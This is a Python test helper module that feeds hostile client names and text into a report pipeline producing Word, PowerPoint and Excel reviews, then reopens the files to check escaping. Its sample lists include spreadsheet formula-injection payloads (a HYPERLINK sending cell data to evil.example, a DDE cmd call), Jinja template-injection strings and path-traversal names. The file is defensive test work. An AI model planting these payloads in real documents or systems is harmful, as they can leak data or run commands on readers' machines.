"""Shared helpers for the hostile-input tests: reading back what SURVIVES in the documents, building
input folders from the samples plus faulty files, and one end-to-end run over hostile names and text.

Everything here reopens the written bytes: docxtpl re-parses its output in recovery mode and silently
drops what it cannot parse, so only the reopened document tells what a reader will see.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from tests.conftest import INPUTS, REPO, run_cli

AS_OF = "2026-11-20"
QUARTER = "2026-Q4"
TEMPLATES = REPO / "templates"
ROADMAP = TEMPLATES / "roadmap.docx"
QBR = TEMPLATES / "qbr.pptx"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_SAFE = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)

# What a spreadsheet runs as a formula (README, Security): written here, not imported from the code under test.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def xml_char(cp: int) -> bool:
    """The XML 1.0 Char production, less DEL (vcio drops it too: Word refuses it in some parts)."""
    return (cp in (0x9, 0xA, 0xD) or 0x20 <= cp <= 0xD7FF or 0xE000 <= cp <= 0xFFFD or 0x10000 <= cp <= 0x10FFFF) \
        and cp != 0x7F


def expected_xml_text(text: str) -> str:
    """An independent oracle for fuzzed input: the characters XML can hold, in order."""
    return "".join(ch for ch in text if xml_char(ord(ch)))


def expected_sheet_text(text: str) -> str:
    """An independent oracle for fuzzed input: the cleaned text, with a leading apostrophe if it starts a formula."""
    kept = expected_xml_text(text)
    return "'" + kept if kept.startswith(FORMULA_STARTS) else kept


# Client text that looks like template code, markup or a formula.
TEMPLATE_LIKE = ["{{ config }}", "{% for x in range(10**9) %}loop{% endfor %}", "{{ ''.__class__.__mro__ }}",
                 "{_{ config }_} {_% if 1 %_}", "{#", "{%p if true %}"]
MARKUP_LIKE = ["<b>Tom & Jerry's \"shop\"</b>", "A &amp; B &lt;c&gt;", "</w:t></w:r><w:r><w:t>injected", "]]> <![CDATA[x"]
FORMULA_LIKE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)",
                "\tTAB=1+1", "\rCR=1+1", "=cmd|' /C calc'!A0"]


# ----------------------------------------------------------------------------- reading documents back
def _w_text(paragraph) -> str:
    out = []
    for el in paragraph.iter(f"{{{W}}}t", f"{{{W}}}tab", f"{{{W}}}br", f"{{{W}}}cr"):
        tag = etree.QName(el).localname
        out.append(el.text or "" if tag == "t" else "\t" if tag == "tab" else "\n")
    return "".join(out)


def _docx_parts(data: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if n.startswith("word/") and n.endswith(".xml")]
        return [etree.fromstring(archive.read(n), _SAFE) for n in names]


def docx_paragraphs(data: bytes) -> list[str]:
    """The text of every paragraph of every part (body, headers, footers, footnotes)."""
    return [_w_text(p) for root in _docx_parts(data) for p in root.iter(f"{{{W}}}p")]


def docx_cells(data: bytes) -> list[str]:
    """The text of every table cell, paragraphs joined with a newline."""
    return ["\n".join(_w_text(p) for p in tc.iter(f"{{{W}}}p"))
            for root in _docx_parts(data) for tc in root.iter(f"{{{W}}}tc")]


def docx_text(data: bytes) -> str:
    return "\n".join(docx_paragraphs(data))


def pptx_paragraphs(data: bytes) -> list[str]:
    """Text of every paragraph on every slide and in every note (line breaks as newlines)."""
    from pptx import Presentation

    out = []
    prs = Presentation(io.BytesIO(data))
    for slide in prs.slides:
        frames = [s.text_frame for s in slide.shapes if s.has_text_frame]
        if slide.has_notes_slide:
            frames.append(slide.notes_slide.notes_text_frame)
        for shape in slide.shapes:
            if shape.has_table:
                frames += [cell.text_frame for row in shape.table.rows for cell in row.cells]
        out += [p.text.replace("\v", "\n") for frame in frames for p in frame.paragraphs]
    return out


def pptx_cells(data: bytes) -> list[str]:
    from pptx import Presentation

    prs = Presentation(io.BytesIO(data))
    return [cell.text.replace("\v", "\n") for slide in prs.slides for shape in slide.shapes if shape.has_table
            for row in shape.table.rows for cell in row.cells]


def xlsx_cells(data: bytes, sheet: str | None = None) -> list:
    """Every non-empty cell (openpyxl Cell objects) of one sheet, or of every sheet."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    sheets = [book[sheet]] if sheet else book.worksheets
    return [c for ws in sheets for row in ws.iter_rows() for c in row if c.value is not None]


def xlsx_column(data: bytes, sheet: str, header: str) -> list:
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(data))[sheet]
    headers = [c.value for c in ws[1]]
    col = headers.index(header) + 1
    return [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]


def xlsx_value(cell) -> str:
    """openpyxl leaves XlsxWriter's escape of a carriage return (_x000D_) as it is."""
    return cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else cell.value


def embedded_workbooks(pptx_bytes: bytes) -> dict[str, bytes]:
    """The xlsx behind every native chart of a deck (what "Edit Data" opens)."""
    with zipfile.ZipFile(io.BytesIO(pptx_bytes)) as archive:
        return {n: archive.read(n) for n in archive.namelist() if n.startswith("ppt/embeddings/") and n.endswith(".xlsx")}


def formula_cells(xlsx_bytes: bytes) -> list[str]:
    """Cells stored as formulas, from the raw sheet XML (<f> elements) and from openpyxl's reading."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(archive.read(name), _SAFE)
                found += [f"{name}: {etree.tostring(f)!r}" for f in root.iter("{*}f")]
    found += [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in xlsx_cells(xlsx_bytes) if c.data_type == "f"]
    return found


def squash(text: str) -> str:
    """Whitespace-insensitive form: XML readers normalise CR, drop whitespace-only runs, turn tabs and
    newlines into tab/break elements."""
    return " ".join(text.split())


# ----------------------------------------------------------------------------- input folders and runs
def copy_samples(dest: Path) -> Path:
    shutil.copytree(INPUTS, dest)
    return dest


def add_roster_rows(inputs: Path, names: list[str]) -> None:
    """Append roster clients (name only; aliases and domains left empty)."""
    with open(inputs / "clients.csv", "a", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        for name in names:
            writer.writerow([name, "", "", "", "", "Dana Whitfield", "1", "quarterly"])


DEVICE_COLUMNS = ["client", "hostname", "serial", "device_type", "os", "purchase_date", "warranty_end"]


def write_devices(path: Path, rows: list[list[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(DEVICE_COLUMNS)
        writer.writerows(rows)


def cli_run(inputs: Path, out: Path, *extra: str, jobs: int = 1, timeout: int = 600, all_clients: bool = True):
    args = ["run", "--inputs", str(inputs), "--out", str(out), "--as-of", AS_OF, "--jobs", str(jobs)]
    if all_clients:
        args.append("--all")
    return run_cli(*args, *extra, timeout=timeout)


def read_manifest(out: Path) -> dict:
    return json.loads((out / QUARTER / "manifest.json").read_text(encoding="utf-8"))


def client_entries(manifest: dict) -> dict[str, dict]:
    return {c["name"]: c for c in manifest["clients"]}


def client_file(out: Path, entry: dict, key: str) -> Path:
    return out / QUARTER / entry["files"][key]


def no_traceback(result) -> None:
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.returncode in (0, 1), f"exit {result.returncode}\n{result.stderr[-3000:]}"


def read_csv(path: Path) -> list[dict]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def synthetic_review():
    """The synthetic client's review (pipeline.render.lint.synthetic_context()): what the roadmap renders from."""
    from pipeline.render.lint import synthetic_context

    return synthetic_context()


@pytest.fixture(scope="session")
def base_review():
    """The synthetic client review, built once (frozen: tests change copies with dataclasses.replace)."""
    return synthetic_review()


def review_with_text(review, name: str, texts: list[str], hosts: list[str] | None = None):
    """The review with another client name, one finding line (appendix table) per text and, when given, the first
    initiative covering one device per host name (named in the appendix)."""
    from dataclasses import replace

    groups = tuple(replace(review.finding_groups[0], text=t) for t in texts)
    changed = dict(client=replace(review.client, name=name), finding_groups=groups)
    if hosts is not None:
        first = review.initiatives[0]
        items = tuple(replace(first.items[0], subject=h, kind="device") for h in hosts)
        changed["initiatives"] = (replace(first, items=items), *review.initiatives[1:])
    return replace(review, **changed)


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


# ----------------------------------------------------------------------------- the end-to-end hostile run
LONG_STEM = "The " + "Very " * 58 + "Long Company"
HOSTILE_NAMES = {
    "dotdot": "../../etc",
    "con": "CON",
    "slash": "a/b",
    "slash_twin": "a b",
    "long_a": LONG_STEM + " A",
    "long_b": LONG_STEM + " B",
    "emoji": "\U0001F984 Unicorn Dental \U0001F680",
    "arabic": "شركة الأمل للتجارة",
    "chinese": "北京科技有限公司",
    "at": "@Home Networks",
    "jinja": "{{ config }} Holdings",
    "markup": "Tom & Jerry's <Shop> \"Ltd\"",
    "control": "Ctrl\x01Char Co",
}
TEXT_CLIENT = "Hostile Text Co"
FORMULA_PRODUCTS = ["=HYPERLINK(\"http://evil.example/\",\"Renew\")", "@SUM(A1:A9) Suite", "+Plus Backup", "-Minus Mail"]
REJECTED_VALUES = ["=1+1", "@NOW()", "+31-12-2020", "-12/31/2020"]
UNKNOWN_CLIENT = "=EvilUnknown(1)"


# Device names for the end-to-end run: no dots (the model keeps a hostname's first label, as for
# "pc01.corp.local") and no leading whitespace (ingest trims cells), so each must survive exactly.
E2E_HOSTNAMES = ["=HYPERLINK(\"http://evil/\",\"click\")", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0",
                 "{{ config }}", "{% for x in range(10**9) %}loop{% endfor %}", "{{ ''|attr('__class__') }}",
                 "{_{ config }_}", "<b>Tom & Jerry's \"shop\"</b>", "A &amp; B &lt;c&gt;",
                 "</w:t></w:r><w:r><w:t>injected", "]]> <![CDATA[x"]


def hostile_hostnames() -> list[str]:
    return E2E_HOSTNAMES


def build_hostile_inputs(inputs: Path) -> None:
    """The samples plus: roster clients with hostile names, a client whose device and product names are
    hostile text, rows rejected for formula-like values, and a row of an unknown formula-like client."""
    copy_samples(inputs)
    add_roster_rows(inputs, [*HOSTILE_NAMES.values(), TEXT_CLIENT])
    rows = [[name, f"DEV-{n:02d}", f"SN-H{n:02d}", "desktop", "Microsoft Windows 7 Professional", "2015-01-01", ""]
            for n, name in enumerate(HOSTILE_NAMES.values())]
    rows += [[TEXT_CLIENT, host, f"SN-T{n:02d}", "desktop", "Microsoft Windows 7 Professional", "2015-01-01", ""]
             for n, host in enumerate(hostile_hostnames())]
    rows += [[TEXT_CLIENT, f"REJ-{n}", f"SN-R{n}", "desktop", "Windows 11 Pro", "2024-01-01", value]
             for n, value in enumerate(REJECTED_VALUES)]
    rows.append([UNKNOWN_CLIENT, "UNK-1", "SN-U1", "desktop", "Windows 11 Pro", "2024-01-01", ""])
    write_devices(inputs / "hostile" / "devices.csv", rows)
    with open(inputs / "hostile" / "subscriptions.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["client", "product", "quantity", "billing_term", "commitment_end", "price"])
        for product in FORMULA_PRODUCTS:
            writer.writerow([TEXT_CLIENT, product, "5", "annual", "2027-01-31", "20.00"])


@pytest.fixture(scope="session")
def hostile_run(tmp_path_factory):
    """One CLI run (as cron runs it: a subprocess, two workers, a log file at the default level) over the
    samples plus hostile names and text. Returns a namespace with result, root, inputs, out, log, before."""
    from types import SimpleNamespace

    root = tmp_path_factory.mktemp("hostile_run")
    inputs = root / "inputs"
    build_hostile_inputs(inputs)
    out = root / "deep" / "er" / "out"  # "../../etc" resolved against a client folder would land inside root
    log = root / "logs" / "vcio.log"
    before = files_under(root)
    result = cli_run(inputs, out, "--log-file", str(log), jobs=2)
    manifest_path = out / QUARTER / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8")) if manifest_path.exists() else None
    return SimpleNamespace(result=result, root=root, inputs=inputs, out=out, log=log, before=before, manifest=manifest)


# ----------------------------------------------------------------------------- reviews with hostile text
def review_with(texts: list[str], name: str | None = None, base: str = "Harbor Point Dental"):
    """A sample client's review with every kind of client text the findings workbook shows (finding titles,
    subjects, recommendations and sources; device, user, licence, subscription and agreement names; risks,
    initiatives and the items they cover, budget categories, decisions) replaced by each of ``texts`` in turn:
    one row per text in each list. ``name`` replaces the client's name."""
    from dataclasses import replace

    from pipeline.review.model import RecordedDecision, ReviewFinding, UserRow
    from tests.review.conftest import sample_reviews

    review = sample_reviews()[base]
    state = review.current_state
    finding, device, licence = review.findings[0], state.devices[0], state.licences[0]
    risk, initiative, line, needed = review.risks[0], review.initiatives[0], review.budget.lines[0], \
        review.decisions_needed[0]
    state = replace(
        state, devices=tuple(replace(device, hostname=s, os=s, serial=s, model=s, sources=s, initiative=s) for s in texts),
        users=tuple(UserRow(s, s, s, "active", None, False, "not reported") for s in texts),
        licences=tuple(replace(licence, product=s) for s in texts),
        subscriptions=tuple(replace(state.subscriptions[0], product=s, term=s) for s in texts),
        contracts=tuple(replace(state.contracts[0], name=s, type=s) for s in texts))
    items = tuple(replace(initiative.items[0], subject=s, detail=s, action=s) for s in texts)
    return replace(
        review, client=replace(review.client, name=name if name is not None else review.client.name),
        current_state=state,
        findings=tuple(ReviewFinding(replace(finding.finding, title=s, subject=s, recommendation=s, sources=[s]),
                                     finding.initiative_id, finding.quarter) for s in texts),
        risks=tuple(replace(risk, title=s, cost_of_inaction=s, mitigations=(s,), subjects=(s,)) for s in texts),
        initiatives=tuple(replace(initiative, title=s, summary=s, owner=s, goal=s, success_metric=s, items=items)
                          for s in texts),
        budget=replace(review.budget, lines=tuple(replace(line, category=s) for s in texts)),
        decisions_needed=tuple(replace(needed, title=s, why=s, owner=s) for s in texts),
        decisions=tuple(RecordedDecision(s, s, "declined", None, s, s, None, False, s, s, False) for s in texts))
